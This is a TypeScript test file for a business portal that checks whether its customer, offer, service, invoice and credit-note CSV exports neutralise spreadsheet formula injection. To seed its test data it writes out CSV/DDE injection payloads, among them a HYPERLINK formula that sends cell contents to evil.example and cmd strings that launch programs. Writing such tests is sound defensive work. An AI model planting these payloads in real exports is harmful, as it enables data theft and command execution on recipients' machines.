import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toGlobalId } from '@portal/kernel';
import { parseCsv } from '../support/csv.js';
import { startTestPortal, type Client, type TestPortal } from '../support/gateway.js';

/**
 * CSV injection across tenants: what a company writes in its own names (a customer's legal name,
 * a site, a city, an OC's name, a credit note's reason) ends in another company's export. No cell
 * of any export may start with what a spreadsheet runs as a formula.
 */
let portal: TestPortal;
let reseller: Client;

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")';
const CMD = "-2+3+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const TAB = '\t=1+1';
const CR = '\r=2+2';

beforeAll(async () => {
  portal = await startTestPortal();
  reseller = await portal.signedIn('E-0000000010');
  const sql = (text: string, params: unknown[] = []) => portal.db.orm.em.getConnection().execute(text, params);
  await sql('update company set legal_name = ? where id = 44660', [HYPERLINK]);
  await sql('update company set legal_name = ? where id = 44284', [CMD]);
  await sql('update company set legal_name = ? where id = 24', ['+Client 1']);
  await sql("update site set name = ?, city = ? where company_id = 44284 and name = 'AIX-EN-PROVENCE'", [SUM, TAB]);
  await sql("update contracted_offer set name = ? where reference = 'OC150943'", [CR]);
  await sql("update sales_admin set display_name = '=Charlotte M.'");
  await sql('update credit_note set reason = ?', ['=cmd|\' /C notepad\'!A0']);
});
afterAll(() => portal?.close());

async function exported(path: string): Promise<string[][]> {
  const res = await fetch(`${portal.url}${path}`, { headers: { cookie: reseller.cookie! } });
  expect(res.status, path).toBe(200);
  return parseCsv(await res.text());
}

/** Every cell of every row: none starts with = + - @ tab or carriage return. */
function expectNeutralised(rows: string[][], path: string) {
  for (const [r, row] of rows.entries()) {
    for (const [c, cell] of row.entries()) expect(cell, `${path} row ${r} column ${rows[0]![c]}`).not.toMatch(/^[=+\-@\t\r]/);
  }
}

describe('every CSV export neutralises formula cells', () => {
  it('customers: a legal name written as a formula comes out as text', async () => {
    const rows = await exported('/exports/customers.csv');
    expectNeutralised(rows, 'customers');
    const names = rows.map((r) => r[2]);
    expect(names).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${CMD}`, "'+Client 1"]));
  });

  it('contracted offers: the OC name, the end customer, the billing account, the site and the sales admin', async () => {
    const rows = await exported('/exports/contracted-offers.csv');
    expectNeutralised(rows, 'contracted-offers');
    const oc = rows.find((r) => r[1] === 'OC150943')!;
    expect(oc).toEqual(["'=Charlotte M.", 'OC150943', `'${CR}`, 'COM32623', `'${CMD}`, `'${CMD}`, `'${SUM}`, '29/05/2018', 'DELIVERED', 'CREATION']);
  });

  it("services: the site and the city, and phone numbers kept as text with their '+'", async () => {
    const rows = await exported(`/exports/services.csv?companyId=${toGlobalId('Company', 44284)}`);
    expectNeutralised(rows, 'services');
    expect(rows.find((r) => r[1] === "'+33442270001")).toEqual(['PHONE_NUMBER', "'+33442270001", '01A1B2C3D4E5', 'ACTIVE', '', 'OC150943', `'${CR}`, `'${SUM}`, `'${TAB}`]);
  });

  it('invoices and credit notes: the client and the reason', async () => {
    const invoices = await exported('/exports/invoices.csv?scope=ALL_IN_REACH');
    expectNeutralised(invoices, 'invoices');
    expect(invoices.slice(1).map((r) => r[1])).toContain("'+Client 1");
    const credits = await exported('/exports/credit-notes.csv?scope=ALL_IN_REACH');
    expectNeutralised(credits, 'credit-notes');
    expect(credits.length).toBeGreaterThan(1);
    expect(credits.slice(1).map((r) => r[10])).toContain("'=cmd|' /C notepad'!A0");
  });
});
